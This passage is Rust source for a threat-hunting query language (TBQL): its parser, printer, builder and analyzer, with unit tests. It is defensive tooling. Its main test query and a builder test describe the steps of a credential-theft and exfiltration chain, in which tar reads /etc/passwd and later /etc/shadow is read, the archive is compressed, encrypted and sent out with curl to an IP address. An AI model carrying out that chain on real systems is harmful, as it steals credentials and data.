/// The paper's Fig. 2 synthesized TBQL query, verbatim (modulo layout).
pub const FIG2_TBQL: &str = r#"
proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1
proc p1 write file f2["%/tmp/upload.tar%"] as evt2
proc p2["%/bin/bzip2%"] read file f2 as evt3
proc p2 write file f3["%/tmp/upload.tar.bz2%"] as evt4
proc p3["%/usr/bin/gpg%"] read file f3 as evt5
proc p3 write file f4["%/tmp/upload%"] as evt6
proc p4["%/usr/bin/curl%"] read file f4 as evt7
proc p4["%/usr/bin/curl%"] connect ip i1["192.168.29.128"] as evt8
with evt1 before evt2, evt2 before evt3, evt3 before evt4,
     evt4 before evt5, evt5 before evt6, evt6 before evt7,
     evt7 before evt8
return distinct p1, f1, f2, p2, f3, p3, f4, p4, i1
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_fig2_query() {
        let q = parse_query(FIG2_TBQL).expect("Fig. 2 query must parse");
        assert_eq!(q.pattern_count(), 8);
        assert_eq!(q.temporal.len(), 7);
        assert!(q.ret.distinct);
        assert_eq!(q.ret.items.len(), 9);

        let Pattern::Event(e1) = &q.patterns[0] else {
            panic!("expected event pattern");
        };
        assert_eq!(e1.id.as_deref(), Some("evt1"));
        assert_eq!(e1.subject.ty, Some(EntityType::Proc));
        assert_eq!(e1.subject.id, "p1");
        assert_eq!(
            e1.subject.filter,
            Some(Filter::Default("%/bin/tar%".into()))
        );
        assert_eq!(e1.ops, vec!["read".to_string()]);
        assert_eq!(e1.object.id, "f1");

        // Pattern 3 reuses f2 with no filter (shared entity ⇒ implicit
        // attribute relationship during execution).
        let Pattern::Event(e3) = &q.patterns[2] else {
            panic!()
        };
        assert_eq!(e3.object.id, "f2");
        assert_eq!(e3.object.filter, None);

        // Final pattern is the connect.
        let Pattern::Event(e8) = &q.patterns[7] else {
            panic!()
        };
        assert_eq!(e8.ops, vec!["connect".to_string()]);
        assert_eq!(e8.object.ty, Some(EntityType::Ip));
    }

    #[test]
    fn parses_path_pattern() {
        let q = parse_query("proc p ~>(2~4)[read] file f as pp1 return p, f").unwrap();
        let Pattern::Path(pp) = &q.patterns[0] else {
            panic!("expected path pattern")
        };
        assert_eq!(pp.min_hops, Some(2));
        assert_eq!(pp.max_hops, Some(4));
        assert_eq!(pp.last_op, "read");
        assert_eq!(pp.id.as_deref(), Some("pp1"));

        let q = parse_query("proc p ~>[read] file f return p").unwrap();
        let Pattern::Path(pp) = &q.patterns[0] else {
            panic!()
        };
        assert_eq!(pp.min_hops, None);
        assert_eq!(pp.max_hops, None);
    }

    #[test]
    fn parses_op_alternatives_and_expr_filters() {
        let q = parse_query(
            r#"proc p[exename = "%tar%" && owner = "root"] read || write file f[name like "/tmp/%"] as e1
               return distinct p.pid, f"#,
        )
        .unwrap();
        let Pattern::Event(e) = &q.patterns[0] else {
            panic!()
        };
        assert_eq!(e.ops, vec!["read".to_string(), "write".to_string()]);
        let Some(Filter::Expr(Expr::And(legs))) = &e.subject.filter else {
            panic!("expected expr filter: {:?}", e.subject.filter)
        };
        assert_eq!(legs.len(), 2);
        let Some(Filter::Expr(Expr::Cmp { op, .. })) = &e.object.filter else {
            panic!()
        };
        assert_eq!(*op, CmpOp::Like);
        assert_eq!(q.ret.items[0].attr.as_deref(), Some("pid"));
        assert_eq!(q.ret.items[1].attr, None);
    }

    #[test]
    fn parses_window() {
        let q = parse_query("proc p read file f as e1 window [100, 2000] return p").unwrap();
        let Pattern::Event(e) = &q.patterns[0] else {
            panic!()
        };
        assert_eq!(e.window, Some(TimeWindow { lo: 100, hi: 2000 }));
        // Negative bounds are parse errors; empty (reversed) windows
        // parse and are rejected later by the lint pass.
        assert!(parse_query("proc p read file f window [-5, 10] return p").is_err());
        assert!(parse_query("proc p read file f window [50, 10] return p").is_ok());
    }

    #[test]
    fn parses_after_relation() {
        let q = parse_query(
            "proc p read file f as e1 proc p write file g as e2 with e2 after e1 return p",
        )
        .unwrap();
        assert_eq!(q.temporal[0].rel, TemporalRel::After);
    }

    #[test]
    fn rejects_malformed_queries() {
        // No pattern.
        assert!(parse_query("return p").is_err());
        // Missing return.
        assert!(parse_query("proc p read file f").is_err());
        // Unknown operation.
        assert!(parse_query("proc p teleport file f return p").is_err());
        // Keyword as identifier.
        assert!(parse_query("proc return read file f return p").is_err());
        // Bad temporal keyword.
        assert!(parse_query("proc p read file f as e1 with e1 during e1 return p").is_err());
        // Unbalanced filter bracket.
        assert!(parse_query(r#"proc p["%x%" read file f return p"#).is_err());
        // Trailing garbage.
        assert!(parse_query("proc p read file f return p extra").is_err());
        // Path with reversed bounds parses (validated in analysis), but
        // missing op errors here.
        assert!(parse_query("proc p ~>(2~4)[] file f return p").is_err());
    }

    #[test]
    fn error_messages_have_spans() {
        let err = parse_query("proc p levitate file f return p").unwrap_err();
        assert!(err.message.contains("unknown operation"));
        assert!(err.span.start > 0);
        let rendered = err.render("proc p levitate file f return p");
        assert!(rendered.contains("^"));
    }
}
