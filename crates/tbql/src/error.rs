//! Spans and diagnostics.

use std::fmt;

/// A byte span into the query source.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Span {
    /// Start byte (inclusive).
    pub start: usize,
    /// End byte (exclusive).
    pub end: usize,
}

impl Span {
    /// Creates a span.
    pub fn new(start: usize, end: usize) -> Span {
        Span { start, end }
    }

    /// Merges two spans into their convex hull.
    pub fn merge(self, other: Span) -> Span {
        Span {
            start: self.start.min(other.start),
            end: self.end.max(other.end),
        }
    }
}

/// A lexing, parsing, or semantic error with location.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TbqlError {
    /// Where in the source.
    pub span: Span,
    /// What went wrong.
    pub message: String,
}

impl TbqlError {
    /// Creates an error.
    pub fn new(span: Span, message: impl Into<String>) -> TbqlError {
        TbqlError {
            span,
            message: message.into(),
        }
    }

    /// Renders the error with a source excerpt and caret line.
    pub fn render(&self, source: &str) -> String {
        render_with_source("error", &self.message, self.span, source)
    }
}

/// Renders `label: message` plus the source line the span points at and
/// a caret underline. Shared by [`TbqlError::render`] and the lint
/// pass's diagnostic rendering.
pub(crate) fn render_with_source(label: &str, message: &str, span: Span, source: &str) -> String {
    // Find the line containing the span start.
    let start = span.start.min(source.len());
    let line_start = source[..start].rfind('\n').map(|i| i + 1).unwrap_or(0);
    let line_end = source[start..]
        .find('\n')
        .map(|i| start + i)
        .unwrap_or(source.len());
    let line_no = source[..start].matches('\n').count() + 1;
    let col = start - line_start;
    let line = &source[line_start..line_end];
    let caret_len = (span.end.min(line_end).saturating_sub(start)).max(1);
    format!(
        "{label}: {message}\n  --> line {line_no}, column {}\n   | {line}\n   | {}{}",
        col + 1,
        " ".repeat(col),
        "^".repeat(caret_len),
    )
}

impl fmt::Display for TbqlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "error at bytes {}..{}: {}",
            self.span.start, self.span.end, self.message
        )
    }
}

impl std::error::Error for TbqlError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn span_merge() {
        let a = Span::new(5, 10);
        let b = Span::new(8, 20);
        assert_eq!(a.merge(b), Span::new(5, 20));
    }

    #[test]
    fn render_points_at_offender() {
        let src = "proc p1 read file f1\nbogus line here";
        let err = TbqlError::new(Span::new(21, 26), "unexpected token");
        let rendered = err.render(src);
        assert!(rendered.contains("line 2, column 1"));
        assert!(rendered.contains("bogus line here"));
        assert!(rendered.contains("^^^^^"));
    }

    #[test]
    fn display_format() {
        let err = TbqlError::new(Span::new(1, 3), "oops");
        assert_eq!(err.to_string(), "error at bytes 1..3: oops");
    }
}
