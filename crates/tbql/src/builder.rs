//! Programmatic query construction (used by the query synthesizer).

use crate::ast::*;
use crate::error::Span;

/// Fluent builder for [`Query`] values.
///
/// ```
/// use threatraptor_tbql::builder::QueryBuilder;
/// use threatraptor_tbql::ast::EntityType;
///
/// let q = QueryBuilder::new()
///     .event(
///         ("p1", Some(EntityType::Proc), Some("%/bin/tar%")),
///         &["read"],
///         ("f1", Some(EntityType::File), Some("%/etc/passwd%")),
///         Some("evt1"),
///     )
///     .before("evt1", "evt1") // constraints are free-form here;
///     .clear_temporal()       // semantic checks happen in `analyze`
///     .return_entities(true, &["p1", "f1"])
///     .build();
/// assert_eq!(q.pattern_count(), 1);
/// ```
#[derive(Debug, Clone, Default)]
pub struct QueryBuilder {
    patterns: Vec<Pattern>,
    temporal: Vec<TemporalConstraint>,
    ret: Option<ReturnClause>,
}

/// Entity spec: `(id, type, default-attr filter)`.
pub type EntitySpec<'a> = (&'a str, Option<EntityType>, Option<&'a str>);

fn entity(spec: EntitySpec<'_>) -> EntityRef {
    EntityRef {
        ty: spec.1,
        id: spec.0.to_string(),
        filter: spec.2.map(|s| Filter::Default(s.to_string())),
        span: Span::default(),
    }
}

impl QueryBuilder {
    /// Starts an empty query.
    pub fn new() -> QueryBuilder {
        QueryBuilder::default()
    }

    /// Appends an event pattern.
    pub fn event(
        mut self,
        subject: EntitySpec<'_>,
        ops: &[&str],
        object: EntitySpec<'_>,
        name: Option<&str>,
    ) -> Self {
        self.patterns.push(Pattern::Event(EventPattern {
            id: name.map(str::to_string),
            subject: entity(subject),
            ops: ops.iter().map(|s| s.to_string()).collect(),
            object: entity(object),
            window: None,
            span: Span::default(),
        }));
        self
    }

    /// Appends an event pattern with a time window.
    pub fn event_windowed(
        mut self,
        subject: EntitySpec<'_>,
        ops: &[&str],
        object: EntitySpec<'_>,
        name: Option<&str>,
        window: TimeWindow,
    ) -> Self {
        self.patterns.push(Pattern::Event(EventPattern {
            id: name.map(str::to_string),
            subject: entity(subject),
            ops: ops.iter().map(|s| s.to_string()).collect(),
            object: entity(object),
            window: Some(window),
            span: Span::default(),
        }));
        self
    }

    /// Appends a variable-length path pattern.
    pub fn path(
        mut self,
        subject: EntitySpec<'_>,
        bounds: Option<(u32, u32)>,
        last_op: &str,
        object: EntitySpec<'_>,
        name: Option<&str>,
    ) -> Self {
        self.patterns.push(Pattern::Path(PathPattern {
            id: name.map(str::to_string),
            subject: entity(subject),
            min_hops: bounds.map(|(m, _)| m),
            max_hops: bounds.map(|(_, m)| m),
            last_op: last_op.to_string(),
            object: entity(object),
            window: None,
            span: Span::default(),
        }));
        self
    }

    /// Adds `left before right`.
    pub fn before(mut self, left: &str, right: &str) -> Self {
        self.temporal.push(TemporalConstraint {
            left: left.to_string(),
            rel: TemporalRel::Before,
            right: right.to_string(),
            span: Span::default(),
        });
        self
    }

    /// Removes all temporal constraints.
    pub fn clear_temporal(mut self) -> Self {
        self.temporal.clear();
        self
    }

    /// Sets the return clause to bare entity ids (default attributes).
    pub fn return_entities(mut self, distinct: bool, entities: &[&str]) -> Self {
        self.ret = Some(ReturnClause {
            distinct,
            items: entities
                .iter()
                .map(|e| ReturnItem {
                    entity: e.to_string(),
                    attr: None,
                    span: Span::default(),
                })
                .collect(),
        });
        self
    }

    /// Finishes the query.
    ///
    /// Panics when no return clause was set — synthesis always sets one.
    pub fn build(self) -> Query {
        Query {
            patterns: self.patterns,
            temporal: self.temporal,
            ret: self.ret.expect("query builder requires a return clause"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analyze::analyze;
    use crate::printer::print_query;

    #[test]
    fn builds_fig2_like_query() {
        let q = QueryBuilder::new()
            .event(
                ("p1", Some(EntityType::Proc), Some("%/bin/tar%")),
                &["read"],
                ("f1", Some(EntityType::File), Some("%/etc/passwd%")),
                Some("evt1"),
            )
            .event(
                ("p1", None, None),
                &["write"],
                ("f2", Some(EntityType::File), Some("%/tmp/upload.tar%")),
                Some("evt2"),
            )
            .before("evt1", "evt2")
            .return_entities(true, &["p1", "f1", "f2"])
            .build();
        let a = analyze(&q).expect("built query analyzes");
        assert_eq!(a.pattern_ids, vec!["evt1", "evt2"]);
        let printed = print_query(&q);
        assert!(printed.contains("proc p1[\"%/bin/tar%\"] read file f1"));
    }

    #[test]
    fn builds_paths_and_windows() {
        let q = QueryBuilder::new()
            .path(
                ("p", Some(EntityType::Proc), None),
                Some((2, 4)),
                "read",
                ("f", Some(EntityType::File), Some("/etc/shadow")),
                Some("pp1"),
            )
            .event_windowed(
                ("p", None, None),
                &["connect"],
                ("c", Some(EntityType::Ip), None),
                Some("evt1"),
                TimeWindow { lo: 0, hi: 1_000 },
            )
            .return_entities(false, &["p", "f", "c"])
            .build();
        assert!(analyze(&q).is_ok());
        let printed = print_query(&q);
        assert!(printed.contains("~>(2~4)[read]"));
        assert!(printed.contains("window [0, 1000]"));
    }

    #[test]
    #[should_panic(expected = "requires a return clause")]
    fn missing_return_panics() {
        QueryBuilder::new()
            .event(
                ("p", Some(EntityType::Proc), None),
                &["read"],
                ("f", Some(EntityType::File), None),
                None,
            )
            .build();
    }
}
