//! Canonical pretty-printer.
//!
//! Produces a normalized textual form of a query: used by the query
//! synthesizer's output, by the conciseness experiment (E5), and by the
//! synthesized-vs-reference equivalence check (E8). Printing then
//! re-parsing yields a structurally identical AST (round-trip property).

use crate::ast::*;
use std::fmt::Write as _;

/// Prints one pattern in canonical TBQL form (no trailing newline) —
/// the per-pattern source line the engine's EXPLAIN schedule shows.
pub fn print_pattern(pat: &Pattern) -> String {
    let mut out = String::new();
    match pat {
        Pattern::Event(e) => {
            print_entity(&mut out, &e.subject);
            out.push(' ');
            out.push_str(&e.ops.join(" || "));
            out.push(' ');
            print_entity(&mut out, &e.object);
            if let Some(id) = &e.id {
                write!(out, " as {id}").unwrap();
            }
            if let Some(w) = &e.window {
                write!(out, " window [{}, {}]", w.lo, w.hi).unwrap();
            }
        }
        Pattern::Path(p) => {
            print_entity(&mut out, &p.subject);
            out.push_str(" ~>");
            if let (Some(min), Some(max)) = (p.min_hops, p.max_hops) {
                write!(out, "({min}~{max})").unwrap();
            }
            write!(out, "[{}] ", p.last_op).unwrap();
            print_entity(&mut out, &p.object);
            if let Some(id) = &p.id {
                write!(out, " as {id}").unwrap();
            }
            if let Some(w) = &p.window {
                write!(out, " window [{}, {}]", w.lo, w.hi).unwrap();
            }
        }
    }
    out
}

/// Prints a query in canonical TBQL form.
pub fn print_query(q: &Query) -> String {
    let mut out = String::new();
    for pat in &q.patterns {
        out.push_str(&print_pattern(pat));
        out.push('\n');
    }
    if !q.temporal.is_empty() {
        out.push_str("with ");
        let parts: Vec<String> = q
            .temporal
            .iter()
            .map(|t| {
                let rel = match t.rel {
                    TemporalRel::Before => "before",
                    TemporalRel::After => "after",
                };
                format!("{} {rel} {}", t.left, t.right)
            })
            .collect();
        out.push_str(&parts.join(", "));
        out.push('\n');
    }
    out.push_str("return ");
    if q.ret.distinct {
        out.push_str("distinct ");
    }
    let items: Vec<String> = q
        .ret
        .items
        .iter()
        .map(|i| match &i.attr {
            Some(a) => format!("{}.{a}", i.entity),
            None => i.entity.clone(),
        })
        .collect();
    out.push_str(&items.join(", "));
    out.push('\n');
    out
}

/// Zeroes every source span in the query so two ASTs from different
/// source texts (e.g. original vs. printed-and-reparsed) compare
/// structurally. Used by the printer round-trip tests and property
/// tests.
pub fn strip_spans(q: &mut Query) {
    for p in &mut q.patterns {
        match p {
            Pattern::Event(e) => {
                e.span = Default::default();
                e.subject.span = Default::default();
                e.object.span = Default::default();
            }
            Pattern::Path(p) => {
                p.span = Default::default();
                p.subject.span = Default::default();
                p.object.span = Default::default();
            }
        }
    }
    for t in &mut q.temporal {
        t.span = Default::default();
    }
    for r in &mut q.ret.items {
        r.span = Default::default();
    }
}

fn print_entity(out: &mut String, e: &EntityRef) {
    if let Some(ty) = e.ty {
        out.push_str(ty.keyword());
        out.push(' ');
    }
    out.push_str(&e.id);
    if let Some(f) = &e.filter {
        out.push('[');
        match f {
            Filter::Default(s) => {
                write!(out, "\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\"")).unwrap()
            }
            Filter::Expr(expr) => print_expr(out, expr, false),
        }
        out.push(']');
    }
}

fn print_expr(out: &mut String, expr: &Expr, parenthesize: bool) {
    match expr {
        Expr::Cmp { attr, op, value } => {
            write!(out, "{attr} {} {value}", op.text()).unwrap();
        }
        Expr::And(legs) => {
            if parenthesize {
                out.push('(');
            }
            for (i, leg) in legs.iter().enumerate() {
                if i > 0 {
                    out.push_str(" && ");
                }
                print_expr(out, leg, true);
            }
            if parenthesize {
                out.push(')');
            }
        }
        Expr::Or(legs) => {
            if parenthesize {
                out.push('(');
            }
            for (i, leg) in legs.iter().enumerate() {
                if i > 0 {
                    out.push_str(" || ");
                }
                print_expr(out, leg, true);
            }
            if parenthesize {
                out.push(')');
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::{parse_query, FIG2_TBQL};

    /// Strips spans so round-tripped ASTs compare structurally.
    fn strip(q: &mut Query) {
        strip_spans(q);
    }

    #[test]
    fn fig2_round_trip() {
        let mut original = parse_query(FIG2_TBQL).unwrap();
        let printed = print_query(&original);
        let mut reparsed = parse_query(&printed).unwrap();
        strip(&mut original);
        strip(&mut reparsed);
        assert_eq!(original, reparsed, "printed:\n{printed}");
    }

    #[test]
    fn printed_form_is_canonical() {
        let q = parse_query(FIG2_TBQL).unwrap();
        let printed = print_query(&q);
        assert!(printed.contains(r#"proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1"#));
        assert!(printed.contains("with evt1 before evt2"));
        assert!(printed.contains("return distinct p1, f1"));
    }

    #[test]
    fn pattern_lines_match_query_printing() {
        let q = parse_query(FIG2_TBQL).unwrap();
        let printed = print_query(&q);
        for (i, pat) in q.patterns.iter().enumerate() {
            assert_eq!(printed.lines().nth(i).unwrap(), print_pattern(pat));
        }
    }

    #[test]
    fn path_and_window_round_trip() {
        let src = "proc p ~>(2~4)[read] file f as pp window [10, 99]\nreturn p.pid, f\n";
        let mut q = parse_query(src).unwrap();
        let printed = print_query(&q);
        let mut again = parse_query(&printed).unwrap();
        strip(&mut q);
        strip(&mut again);
        assert_eq!(q, again, "printed:\n{printed}");
        assert!(printed.contains("~>(2~4)[read]"));
        assert!(printed.contains("window [10, 99]"));
    }

    #[test]
    fn expr_filters_round_trip() {
        let src = r#"proc p[exename like "%sh" && (pid >= 100 || owner = "root")] read file f
return distinct p"#;
        let mut q = parse_query(src).unwrap();
        let printed = print_query(&q);
        let mut again = parse_query(&printed).unwrap();
        strip(&mut q);
        strip(&mut again);
        assert_eq!(q, again, "printed:\n{printed}");
    }
}
