//! Semantic analysis: type resolution, sugar expansion, validation.
//!
//! Implements the paper's inference rules (§II-D): default attribute
//! names are filled in, entity-ID reuse is resolved into one typed entity
//! table (the engine later turns shared entities into attribute
//! relationships between patterns), and temporal constraints are
//! normalized to `before` pairs. Feasibility of the temporal system
//! (ordering cycles, empty or conflicting windows) is checked by the
//! [`dbm`](crate::dbm) closure in the [`lint`](crate::lint) pass, which
//! runs as part of plan compilation.

use crate::ast::*;
use crate::error::{Span, TbqlError};
use std::collections::{BTreeMap, HashMap, HashSet};

/// Resolved information about one entity variable.
#[derive(Debug, Clone, PartialEq)]
pub struct EntityInfo {
    /// Resolved entity type.
    pub ty: EntityType,
    /// Conjunction of all filters attached to any mention, normalized
    /// (sugar expanded, `=`-with-wildcards rewritten to `like`, numeric
    /// literals coerced).
    pub filters: Vec<Expr>,
}

/// A validated, desugared query.
#[derive(Debug, Clone, PartialEq)]
pub struct AnalyzedQuery {
    /// The original query (unchanged).
    pub query: Query,
    /// Pattern ids, parallel to `query.patterns` (auto-named `evtN` when
    /// the source omitted `as`).
    pub pattern_ids: Vec<String>,
    /// Entity table.
    pub entities: BTreeMap<String, EntityInfo>,
    /// Temporal constraints normalized to `before` pairs
    /// `(earlier, later)`.
    pub before: Vec<(String, String)>,
    /// Return items with default attributes filled in.
    pub returns: Vec<(String, String)>,
    /// Whether the projection deduplicates.
    pub distinct: bool,
}

impl AnalyzedQuery {
    /// Index of a pattern by id.
    pub fn pattern_index(&self, id: &str) -> Option<usize> {
        self.pattern_ids.iter().position(|p| p == id)
    }

    /// A normalized textual signature of the query's semantics: pattern
    /// shapes, entity types and merged filters, temporal pairs, and
    /// projection — independent of cosmetic source choices (repeated
    /// type keywords, filter placement). Two queries with equal
    /// signatures retrieve the same results on every store.
    pub fn canonical_signature(&self) -> String {
        use std::fmt::Write as _;
        let mut s = String::new();
        for (i, pat) in self.query.patterns.iter().enumerate() {
            match pat {
                Pattern::Event(e) => {
                    let mut ops = e.ops.clone();
                    ops.sort();
                    writeln!(
                        s,
                        "event {} {}:{} [{}] window={:?}",
                        self.pattern_ids[i],
                        e.subject.id,
                        e.object.id,
                        ops.join("|"),
                        e.window
                    )
                    .expect("write to String");
                }
                Pattern::Path(p) => {
                    writeln!(
                        s,
                        "path {} {}:{} [{}] {:?}~{:?} window={:?}",
                        self.pattern_ids[i],
                        p.subject.id,
                        p.object.id,
                        p.last_op,
                        p.min_hops,
                        p.max_hops,
                        p.window
                    )
                    .expect("write to String");
                }
            }
        }
        for (var, info) in &self.entities {
            let mut filters: Vec<String> = info.filters.iter().map(|f| format!("{f:?}")).collect();
            filters.sort();
            filters.dedup(); // repeating a filter on a reuse changes nothing
            writeln!(
                s,
                "entity {var} {} {}",
                info.ty.keyword(),
                filters.join(" & ")
            )
            .expect("write to String");
        }
        let mut before = self.before.clone();
        before.sort();
        for (a, b) in before {
            writeln!(s, "before {a} {b}").expect("write to String");
        }
        writeln!(s, "return distinct={} {:?}", self.distinct, self.returns)
            .expect("write to String");
        s
    }
}

/// Numeric attributes (literals coerce to integers).
const NUMERIC_ATTRS: &[&str] = &["pid", "srcport", "dstport"];

/// Runs semantic analysis.
pub fn analyze(query: &Query) -> Result<AnalyzedQuery, TbqlError> {
    // 1. Pattern ids.
    let mut pattern_ids: Vec<String> = Vec::with_capacity(query.patterns.len());
    let mut seen_ids: HashSet<String> = HashSet::new();
    for (i, pat) in query.patterns.iter().enumerate() {
        let id = match pat.id() {
            Some(id) => id.to_string(),
            None => {
                // Auto-name, avoiding collisions with explicit names.
                let mut n = i + 1;
                loop {
                    let candidate = format!("evt{n}");
                    if !seen_ids.contains(&candidate)
                        && !query.patterns.iter().any(|p| p.id() == Some(&candidate))
                    {
                        break candidate;
                    }
                    n += 1;
                }
            }
        };
        if !seen_ids.insert(id.clone()) {
            return Err(TbqlError::new(
                pat.span(),
                format!("duplicate pattern name `{id}`"),
            ));
        }
        pattern_ids.push(id);
    }

    // 2. Entity type unification.
    let mut types: HashMap<String, (EntityType, Span)> = HashMap::new();
    let unify = |id: &str,
                 ty: EntityType,
                 span: Span,
                 types: &mut HashMap<String, (EntityType, Span)>|
     -> Result<(), TbqlError> {
        match types.get(id) {
            Some((existing, _)) if *existing != ty => Err(TbqlError::new(
                span,
                format!(
                    "entity `{id}` used as {} here but declared as {} earlier",
                    ty.keyword(),
                    existing.keyword()
                ),
            )),
            Some(_) => Ok(()),
            None => {
                types.insert(id.to_string(), (ty, span));
                Ok(())
            }
        }
    };

    for pat in &query.patterns {
        // Subjects are processes (events originate from processes).
        let subj = pat.subject();
        if let Some(ty) = subj.ty {
            if ty != EntityType::Proc {
                return Err(TbqlError::new(
                    subj.span,
                    format!("subject `{}` must be a proc, not {}", subj.id, ty.keyword()),
                ));
            }
        }
        unify(&subj.id, EntityType::Proc, subj.span, &mut types)?;

        // Objects follow the operation's object type.
        let obj = pat.object();
        let op_ty = match pat {
            Pattern::Event(e) => {
                let mut tys = e.ops.iter().filter_map(|o| operation_object_type(o));
                let first = tys
                    .next()
                    .ok_or_else(|| TbqlError::new(e.span, "event pattern has no operations"))?;
                for t in tys {
                    if t != first {
                        return Err(TbqlError::new(
                            e.span,
                            "operation alternatives must share one object type \
                             (e.g. `read || write`, not `read || connect`)",
                        ));
                    }
                }
                first
            }
            Pattern::Path(p) => operation_object_type(&p.last_op).ok_or_else(|| {
                TbqlError::new(p.span, format!("unknown operation `{}`", p.last_op))
            })?,
        };
        if let Some(declared) = obj.ty {
            if declared != op_ty {
                return Err(TbqlError::new(
                    obj.span,
                    format!(
                        "object `{}` declared as {} but the operation targets {}",
                        obj.id,
                        declared.keyword(),
                        op_ty.keyword()
                    ),
                ));
            }
        }
        unify(&obj.id, op_ty, obj.span, &mut types)?;

        // Path bounds sanity.
        if let Pattern::Path(p) = pat {
            let min = p.min_hops.unwrap_or(1);
            let max = p.max_hops.unwrap_or(min.max(4));
            if min == 0 {
                return Err(TbqlError::new(p.span, "path minimum length must be ≥ 1"));
            }
            if max < min {
                return Err(TbqlError::new(
                    p.span,
                    format!("path bounds reversed ({min}~{max})"),
                ));
            }
        }
    }

    // 3. Filters: expand sugar, validate attributes, coerce numerics.
    let mut entities: BTreeMap<String, EntityInfo> = types
        .iter()
        .map(|(id, (ty, _))| {
            (
                id.clone(),
                EntityInfo {
                    ty: *ty,
                    filters: Vec::new(),
                },
            )
        })
        .collect();
    for pat in &query.patterns {
        for eref in [pat.subject(), pat.object()] {
            let Some(filter) = &eref.filter else { continue };
            let info = entities.get_mut(&eref.id).expect("typed above");
            let expr = normalize_filter(filter, info.ty, eref.span)?;
            info.filters.push(expr);
        }
    }

    // 4. Temporal constraints: normalize to before-pairs and check
    //    references. Cycle/feasibility checking is the lint pass's DBM.
    let mut before: Vec<(String, String)> = Vec::new();
    for tc in &query.temporal {
        for side in [&tc.left, &tc.right] {
            if !pattern_ids.contains(side) {
                return Err(TbqlError::new(
                    tc.span,
                    format!("temporal constraint references unknown pattern `{side}`"),
                ));
            }
        }
        if tc.left == tc.right {
            return Err(TbqlError::new(
                tc.span,
                format!("pattern `{}` cannot precede itself", tc.left),
            ));
        }
        let pair = match tc.rel {
            TemporalRel::Before => (tc.left.clone(), tc.right.clone()),
            TemporalRel::After => (tc.right.clone(), tc.left.clone()),
        };
        before.push(pair);
    }

    // 5. Return clause.
    let mut returns = Vec::new();
    for item in &query.ret.items {
        let Some(info) = entities.get(&item.entity) else {
            return Err(TbqlError::new(
                item.span,
                format!("return references unknown entity `{}`", item.entity),
            ));
        };
        let attr = match &item.attr {
            Some(a) => {
                if !info.ty.valid_attrs().contains(&a.as_str()) {
                    return Err(TbqlError::new(
                        item.span,
                        format!(
                            "{} entities have no attribute `{a}` (valid: {})",
                            info.ty.keyword(),
                            info.ty.valid_attrs().join(", ")
                        ),
                    ));
                }
                a.clone()
            }
            None => info.ty.default_attr().to_string(),
        };
        returns.push((item.entity.clone(), attr));
    }

    Ok(AnalyzedQuery {
        query: query.clone(),
        pattern_ids,
        entities,
        before,
        returns,
        distinct: query.ret.distinct,
    })
}

/// Expands filter sugar and validates attribute names.
fn normalize_filter(filter: &Filter, ty: EntityType, span: Span) -> Result<Expr, TbqlError> {
    match filter {
        Filter::Default(s) => {
            let op = if s.contains('%') || s.contains('_') {
                CmpOp::Like
            } else {
                CmpOp::Eq
            };
            Ok(Expr::Cmp {
                attr: ty.default_attr().to_string(),
                op,
                value: Lit::Str(s.clone()),
            })
        }
        Filter::Expr(e) => normalize_expr(e, ty, span),
    }
}

fn normalize_expr(expr: &Expr, ty: EntityType, span: Span) -> Result<Expr, TbqlError> {
    match expr {
        Expr::Cmp { attr, op, value } => {
            if !ty.valid_attrs().contains(&attr.as_str()) {
                return Err(TbqlError::new(
                    span,
                    format!(
                        "{} entities have no attribute `{attr}` (valid: {})",
                        ty.keyword(),
                        ty.valid_attrs().join(", ")
                    ),
                ));
            }
            // `=` with wildcards means pattern matching.
            let op = match (op, value) {
                (CmpOp::Eq, Lit::Str(s)) if s.contains('%') || s.contains('_') => CmpOp::Like,
                _ => *op,
            };
            // Numeric attribute literals coerce to integers.
            let value = if NUMERIC_ATTRS.contains(&attr.as_str()) {
                match value {
                    Lit::Str(s) => match s.parse::<i64>() {
                        Ok(v) => Lit::Int(v),
                        Err(_) if op == CmpOp::Like => value.clone(),
                        Err(_) => {
                            return Err(TbqlError::new(
                                span,
                                format!("attribute `{attr}` is numeric; `{s}` is not a number"),
                            ))
                        }
                    },
                    v => v.clone(),
                }
            } else {
                value.clone()
            };
            Ok(Expr::Cmp {
                attr: attr.clone(),
                op,
                value,
            })
        }
        Expr::And(legs) => Ok(Expr::And(
            legs.iter()
                .map(|l| normalize_expr(l, ty, span))
                .collect::<Result<_, _>>()?,
        )),
        Expr::Or(legs) => Ok(Expr::Or(
            legs.iter()
                .map(|l| normalize_expr(l, ty, span))
                .collect::<Result<_, _>>()?,
        )),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parser::{parse_query, FIG2_TBQL};

    fn analyzed(src: &str) -> AnalyzedQuery {
        analyze(&parse_query(src).expect("parse")).expect("analyze")
    }

    fn analyze_err(src: &str) -> TbqlError {
        analyze(&parse_query(src).expect("parse")).expect_err("should fail analysis")
    }

    #[test]
    fn fig2_analysis() {
        let a = analyzed(FIG2_TBQL);
        assert_eq!(a.pattern_ids.len(), 8);
        assert_eq!(a.pattern_ids[0], "evt1");
        assert_eq!(a.entities.len(), 9);
        assert_eq!(a.entities["p1"].ty, EntityType::Proc);
        assert_eq!(a.entities["f2"].ty, EntityType::File);
        assert_eq!(a.entities["i1"].ty, EntityType::Ip);
        // p1's default filter expanded to a LIKE on exename.
        assert_eq!(
            a.entities["p1"].filters,
            vec![Expr::Cmp {
                attr: "exename".into(),
                op: CmpOp::Like,
                value: Lit::Str("%/bin/tar%".into())
            }]
        );
        // i1's exact IP stays an equality.
        assert_eq!(
            a.entities["i1"].filters,
            vec![Expr::Cmp {
                attr: "dstip".into(),
                op: CmpOp::Eq,
                value: Lit::Str("192.168.29.128".into())
            }]
        );
        // Returns filled with default attributes.
        assert!(a.returns.contains(&("p1".into(), "exename".into())));
        assert!(a.returns.contains(&("f1".into(), "name".into())));
        assert!(a.returns.contains(&("i1".into(), "dstip".into())));
        assert!(a.distinct);
